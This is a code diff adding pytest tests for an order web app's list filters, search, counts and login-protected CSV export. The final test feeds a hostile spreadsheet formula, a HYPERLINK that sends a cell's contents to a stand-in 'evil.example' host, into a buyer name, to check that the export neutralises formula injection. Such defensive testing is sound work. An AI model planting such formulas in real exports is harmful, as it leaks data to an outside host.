@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 from datetime import UTC, date, datetime, timedelta
 
@@ -17,6 +19,7 @@ from db.models import Order, Parcel
 from db.session import session_scope
 from tests.helpers import numbers, seed_orders
 from tests.test_web_app import OPERATOR, WebClient, web_settings
+from tests.test_web_operator import LEDGER, seed_ledger
 from web.app import create_app
 from web.texts import de, en
 
@@ -320,3 +323,100 @@ def test_the_ship_date_field_starts_at_today(client: WebClient, order_no: str) -
     page = html_of(client.get(f"/orders/{order_no}", auth=OPERATOR, headers=GERMAN))
     (field,) = page.xpath('//input[@name="ship_date" and @type="date"]')
     assert date.fromisoformat(field.get("value")) == business_today()
+
+
+# --- C: the order list's filters, search, count and CSV export ----------------------------------
+
+
+def listed(client: WebClient, url: str) -> list[str]:
+    page = html_of(client.get(url, auth=OPERATOR, headers=ENGLISH))
+    return sorted(str(tr.get("data-order")) for tr in page.xpath(".//tr[@data-order]"))
+
+
+def test_the_confirmation_filter_shows_the_red_icons(settings: Settings, client: WebClient) -> None:
+    order_nos = seed_ledger(settings)  # one order per confirmation status, in LEDGER's order
+    by_status = {status: no for no, (status, _, _) in zip(order_nos, LEDGER, strict=True)}
+    assert listed(client, "/orders?confirmation=red") == sorted(
+        [by_status["rejected"], by_status["failed"]]
+    )
+    assert listed(client, "/orders?confirmation=held") == [by_status["held"]]
+    portal = next(o for o in order_nos if o == by_status["rejected"])
+    with session_scope(settings.db_url) as session:
+        rejected_portal = session.scalars(
+            select(Order.portal).where(Order.order_no == portal)
+        ).one()
+    assert by_status["rejected"] in listed(
+        client, f"/orders?confirmation=red&portal={rejected_portal}"
+    )
+
+
+def test_the_mail_filter_finds_orders_by_their_shipping_mail(
+    settings: Settings, client: WebClient
+) -> None:
+    order_nos = seed_ledger(settings)  # every ledger order has a sent mail, two orders none
+    with session_scope(settings.db_url) as session:
+        everyone = sorted(session.scalars(select(Order.order_no)))
+    assert listed(client, "/orders?mail=sent") == sorted(order_nos)
+    assert listed(client, "/orders?mail=none") == sorted(set(everyone) - set(order_nos))
+    assert listed(client, "/orders?mail=failed") == []
+
+
+def test_search_finds_buyer_name_email_and_part_of_a_tracking_number(
+    settings: Settings, client: WebClient
+) -> None:
+    order_nos = seed_ledger(settings)
+    with session_scope(settings.db_url) as session:
+        session.execute(
+            update(Order)
+            .where(Order.order_no == order_nos[1])
+            .values(buyer_name="Jürgen Weißmüller", buyer_email="j.weiss@example.org")
+        )
+        number = session.scalars(
+            select(Parcel.tracking_number)
+            .join(Order, Order.id == Parcel.order_id)
+            .where(Order.order_no == order_nos[4])
+        ).one()
+    assert number is not None
+    assert listed(client, "/orders?q=weißmüller") == [order_nos[1]]
+    assert listed(client, "/orders?q=J.WEISS@EXAMPLE") == [order_nos[1]]
+    assert listed(client, f"/orders?q={number[5:14]}") == [order_nos[4]]
+    assert listed(client, "/orders?q=_%25_") == []  # LIKE wildcards are plain characters
+
+
+def test_the_list_says_how_many_orders_the_filter_found(
+    settings: Settings, client: WebClient
+) -> None:
+    seed_orders(settings.db_url, 120)
+    german = html_of(client.get("/orders", auth=OPERATOR, headers=GERMAN))
+    assert german.xpath('//*[@id="found"]')[0].text_content() == "120 Bestellungen gefunden"
+    english = html_of(client.get("/orders?q=AU10001", auth=OPERATOR, headers=ENGLISH))
+    assert english.xpath('//*[@id="found"]')[0].text_content() == "10 orders found"
+
+
+def test_the_csv_export_holds_the_filtered_list(settings: Settings, client: WebClient) -> None:
+    order_nos = seed_ledger(settings)
+    response = client.get("/orders.csv?confirmation=red", auth=OPERATOR, headers=GERMAN)
+    assert response.status_code == 200
+    assert response.headers["content-type"].startswith("text/csv")
+    assert response.headers["content-disposition"].startswith("attachment;")
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    assert rows[0][0] == "Bestellung" and rows[0][3] == "Käufer"
+    assert sorted(r[0] for r in rows[1:]) == sorted([order_nos[3], order_nos[4]])
+    assert all(re.fullmatch(r"\d\d\.\d\d\.\d{4} \d\d:\d\d", r[10]) for r in rows[1:])
+
+
+def test_the_csv_export_needs_the_operator_login(client: WebClient) -> None:
+    assert client.get("/orders.csv").status_code == 401
+
+
+@pytest.mark.parametrize("hostile", ['=HYPERLINK("http://evil.example/?"&A1;"x")', "@SUM(1+1)"])
+def test_the_csv_export_runs_no_formula(
+    settings: Settings, client: WebClient, hostile: str
+) -> None:
+    seed_orders(settings.db_url, 1)
+    with session_scope(settings.db_url) as session:
+        session.execute(update(Order).values(buyer_name=hostile, buyer_email="+49@example.org"))
+    response = client.get("/orders.csv", auth=OPERATOR, headers=ENGLISH)
+    (row,) = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))[1:]
+    assert row[3] == "'" + hostile and row[4] == "'+49@example.org"
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)
